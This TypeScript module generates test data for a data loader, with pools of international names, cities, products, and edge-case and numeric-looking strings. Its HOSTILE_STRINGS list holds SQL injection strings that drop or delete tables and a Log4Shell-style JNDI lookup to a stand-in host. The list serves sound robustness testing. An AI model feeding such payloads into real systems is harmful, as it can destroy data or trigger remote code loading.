import type { RowRandom } from '../random';

/**
 * Value pools that exercise the edges a loader must survive: unicode and emoji, quotes and backslashes,
 * numeric-looking strings, very long strings, and (only with `hostile`) control characters, NUL and SQL-ish text.
 */

/** Klaviyo's datetime format: `2022-11-08T01:23:45+00:00`. */
export function isoSeconds(epochSeconds: number): string {
  return new Date(epochSeconds * 1000).toISOString().slice(0, 19) + '+00:00';
}

export const DAY = 86_400;
export const HOUR = 3_600;

export const FIRST_NAMES = [
  'Ana',
  'José',
  'Zoë',
  'Łukasz',
  'Søren',
  'Amélie',
  'Björk',
  'Renée',
  'Jean-Luc',
  'Nguyễn',
  'Ólafur',
  'Priya',
  'Chidi',
  'Aiko',
  'Mateus',
  'Fatima',
  'Ólöf',
  'Grace',
  'Liam',
  'Noah',
  'Emma',
  'Olivia',
  '李',
  'Дмитрий',
  'محمد',
  '🎉 Party',
] as const;

export const LAST_NAMES = [
  "O'Connor",
  'Smith',
  'Müller',
  'García',
  'Dupont',
  'Kowalski',
  '山田',
  'Иванов',
  'D’Angelo',
  'van der Berg',
  'Nakamura',
  'Okafor',
  'Quote"Mark',
  'Back\\Slash',
  'Brown',
  'Taylor',
  'Ng',
  'Øster',
] as const;

export const CITIES = [
  {
    city: 'Boston',
    region: 'MA',
    country: 'United States',
    zip: '02134',
    timezone: 'America/New_York',
    lat: 42.3601,
    lon: -71.0589,
  },
  {
    city: 'São Paulo',
    region: 'SP',
    country: 'Brazil',
    zip: '01000-000',
    timezone: 'America/Sao_Paulo',
    lat: -23.5505,
    lon: -46.6333,
  },
  {
    city: 'Zürich',
    region: 'ZH',
    country: 'Switzerland',
    zip: '8001',
    timezone: 'Europe/Zurich',
    lat: 47.3769,
    lon: 8.5417,
  },
  {
    city: 'Kraków',
    region: 'Małopolskie',
    country: 'Poland',
    zip: '30-001',
    timezone: 'Europe/Warsaw',
    lat: 50.0647,
    lon: 19.945,
  },
  {
    city: '東京',
    region: 'Tokyo',
    country: 'Japan',
    zip: '100-0001',
    timezone: 'Asia/Tokyo',
    lat: 35.6762,
    lon: 139.6503,
  },
  {
    city: 'London',
    region: 'England',
    country: 'United Kingdom',
    zip: 'SW1A 1AA',
    timezone: 'Europe/London',
    lat: 51.5072,
    lon: -0.1276,
  },
  {
    city: 'Reykjavík',
    region: 'Höfuðborgarsvæðið',
    country: 'Iceland',
    zip: '101',
    timezone: 'Atlantic/Reykjavik',
    lat: 64.1466,
    lon: -21.9426,
  },
  {
    city: 'Lagos',
    region: 'Lagos',
    country: 'Nigeria',
    zip: '100001',
    timezone: 'Africa/Lagos',
    lat: 6.5244,
    lon: 3.3792,
  },
] as const;

export const LOCALES = ['en-US', 'fr-FR', 'de-DE', 'pt-BR', 'ja-JP', 'es-ES', 'pl-PL'] as const;

export const PRODUCT_NAMES = [
  'Classic Tee',
  'Crème Brûlée Candle',
  'Trail Runner 2.0',
  'Ceramic Mug "Grande"',
  '14" Laptop Sleeve',
  'Back\\Pack',
  'Café Blend ☕',
  'Bamboo Toothbrush (4-pack)',
  'Señorita Sunglasses',
  'Gift Card',
] as const;

/** Tricky but legitimate strings: every loader must carry these through unchanged. */
export const EDGE_STRINGS = [
  'plain text',
  'He said "hello"',
  "it's",
  'C:\\Users\\klaviyo\\file.txt',
  'emoji 🎉🚀👩‍👩‍👧',
  'multi\nline\ttext',
  'ünïcödé ñ ß ø',
  '中文字符',
  'العربية',
  '',
  '   padded   ',
  '<b>html</b> & entities &amp;',
  '{"looks":"like json"}',
  '💩',
] as const;

/** Strings that look like numbers but are not: a loader that guesses types gets them wrong. */
export const NUMERIC_LOOKING = [
  '00123',
  '1e5',
  '0.10',
  '-0',
  '12345678901234567890',
  '+1',
  '0x1F',
  'NaN',
  '3.14',
] as const;

/** Only with `hostile: true`: control characters, NUL, injection-looking text. */
export const HOSTILE_STRINGS = [
  '"; DROP TABLE x; --',
  "'; DELETE FROM profiles; --",
  "Robert'); DROP TABLE students;--",
  'nul\u0000inside',
  'ctrl\u0001\u0002\u001b[31m\u007f',
  'semi;colon;"quote"\'single\'',
  '\u2028line\u2029separators',
  '${jndi:ldap://example.invalid/a}',
  'x\\"; --\\\\',
  '\ud800 lone surrogate',
] as const;

/**
 * A long string of `length` UTF-16 code units (one fewer rather than half an emoji: a lone surrogate is invalid
 * UTF-16, which only the hostile mode may serve), deterministic.
 */
export function longText(length: number, r: RowRandom): string {
  const words = ['lorem', 'ipsum', 'dolor', 'sït', 'amet', '🎈', 'consectetur', '"quoted"', 'back\\slash', 'ünïcode'];
  let out = '';
  while (out.length < length) out += words[r.int(words.length)] + ' ';
  return cutText(out, length);
}

/** The first `length` UTF-16 code units of a text, one fewer when the cut would split a surrogate pair. */
export function cutText(text: string, length: number): string {
  const last = text.charCodeAt(length - 1);
  return text.slice(0, last >= 0xd800 && last <= 0xdbff ? length - 1 : length);
}

/** An edge string most of the time; a hostile one sometimes when hostile data is on. */
export function edgeString(r: RowRandom, hostile: boolean): string {
  if (hostile && r.chance(0.3)) return r.pick(HOSTILE_STRINGS);
  return r.pick(EDGE_STRINGS);
}

/** A plain slug for emails and urls. */
export function slug(text: string): string {
  const ascii = text
    .normalize('NFKD')
    .replace(/[^A-Za-z0-9]+/g, '')
    .toLowerCase();
  return ascii.length > 0 ? ascii : 'x';
}
